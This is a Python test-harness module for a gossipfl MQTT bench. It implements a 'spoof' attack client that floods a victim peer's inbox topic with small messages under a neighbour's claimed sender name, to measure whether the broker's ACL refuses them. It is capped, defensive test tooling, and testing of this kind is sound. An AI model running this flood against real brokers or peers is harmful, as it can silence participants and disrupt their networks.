"""Attack clients against a gossipfl peer on MQTT: the hostile side of bench/hostile.py.

The broker relays whatever a client may publish; the inbox topic's last level (the sender)
is only a hint unless the broker's ACL binds it to the login. `spoof` is a client that is
not the claimed peer publishing small messages into a victim's inbox under a neighbour's
sender suffix, as the issue measured (13 one-byte messages per round silenced a neighbour).
It speaks MQTT v5 so that the broker tells it, message by message, whether the ACL let the
publish through (PUBACK reason 0x87 "not authorized") instead of dropping it silently.

    python -m tests.mqtt_attackers spoof --port PORT --topic TOPIC --seconds N [--rate R] [--count C]
        [--username U --password-file F]

prints one JSON line with the counts. Counts and time are bounded (MAX_* below).
"""

from __future__ import annotations

import argparse
import json
import sys
import threading
import time
import uuid

import paho.mqtt.client as mqtt

MAX_SECONDS = 600.0
MAX_COUNT = 100_000
MAX_RATE = 1_000.0
MAX_PAYLOAD = 1 << 20
CONNECT_TIMEOUT = 10.0


def spoof(host: str, port: int, topic: str, seconds: float, *, rate: float = 50.0, count: int = 5_000,
          payload: bytes = b"\x00", username: str | None = None, password: str | None = None) -> dict:
    """Publish `payload` to `topic` (QoS 1) `rate` times a second until `count` messages or
    `seconds` are done. Returns what the broker made of it: refused login, acknowledged
    publishes, publishes it reported as not authorized."""
    if not 0 < seconds <= MAX_SECONDS:
        raise ValueError(f"seconds must be in (0, {MAX_SECONDS:g}], got {seconds}")
    if not 0 < rate <= MAX_RATE:
        raise ValueError(f"rate must be in (0, {MAX_RATE:g}], got {rate}")
    if not 0 <= count <= MAX_COUNT:
        raise ValueError(f"count must be between 0 and {MAX_COUNT}, got {count}")
    if len(payload) > MAX_PAYLOAD:
        raise ValueError(f"payload must be at most {MAX_PAYLOAD} bytes, got {len(payload)}")
    out = {"topic": topic, "login": username or "anonymous", "connected": False, "refused": None,
           "published": 0, "acked": 0, "not_authorized": 0}
    lock = threading.Lock()
    connected = threading.Event()

    def on_connect(client, userdata, flags, reason_code, properties):
        out["connected"] = not reason_code.is_failure
        out["refused"] = None if out["connected"] else str(reason_code)
        connected.set()

    def on_publish(client, userdata, mid, reason_code, properties):
        with lock:
            if reason_code.is_failure:
                out["not_authorized"] += 1
            else:
                out["acked"] += 1

    client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=f"spoof-{uuid.uuid4().hex[:12]}",
                         protocol=mqtt.MQTTv5, reconnect_on_failure=False)
    client.on_connect, client.on_publish = on_connect, on_publish
    if username:
        client.username_pw_set(username, password)
    started = time.monotonic()
    end = started + seconds
    try:
        client.connect(host, port, keepalive=30)
    except OSError as exc:
        out["refused"] = f"{type(exc).__name__}: {exc}"
        return _done(out, started)
    client.loop_start()
    try:
        if not connected.wait(min(CONNECT_TIMEOUT, seconds)) or not out["connected"]:
            out["refused"] = out["refused"] or "no CONNACK"
            return _done(out, started)
        gap = 1.0 / rate
        next_at = time.monotonic()
        while out["published"] < count and time.monotonic() < end:
            if client.publish(topic, payload, qos=1).rc != mqtt.MQTT_ERR_SUCCESS:
                break  # the broker closed the connection
            out["published"] += 1
            next_at += gap
            time.sleep(max(0.0, min(next_at, end) - time.monotonic()))
        settle = time.monotonic() + 2.0  # the last acknowledgements
        while time.monotonic() < settle and out["acked"] + out["not_authorized"] < out["published"]:
            time.sleep(0.05)
    finally:
        client.disconnect()
        client.loop_stop()
    return _done(out, started)


def _done(out: dict, started: float) -> dict:
    out["elapsed"] = round(time.monotonic() - started, 2)
    return out


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m tests.mqtt_attackers", description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=["spoof"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--topic", required=True, help="e.g. gossipfl/NET/VICTIM/inbox/CLAIMED_SENDER")
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--rate", type=float, default=50.0, help="messages per second")
    p.add_argument("--count", type=int, default=5_000)
    p.add_argument("--size", type=int, default=1, help="payload bytes")
    p.add_argument("--username")
    p.add_argument("--password-file", help="a file holding the login's password (never on a command line)")
    a = p.parse_args(argv)
    if not 0 <= a.size <= MAX_PAYLOAD:
        p.error(f"--size must be between 0 and {MAX_PAYLOAD}")
    password = None
    if a.password_file:
        with open(a.password_file, encoding="utf-8") as f:
            password = f.read(4096).strip()
    try:
        result = spoof(a.host, a.port, a.topic, a.seconds, rate=a.rate, count=a.count, payload=bytes(a.size),
                       username=a.username, password=password)
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
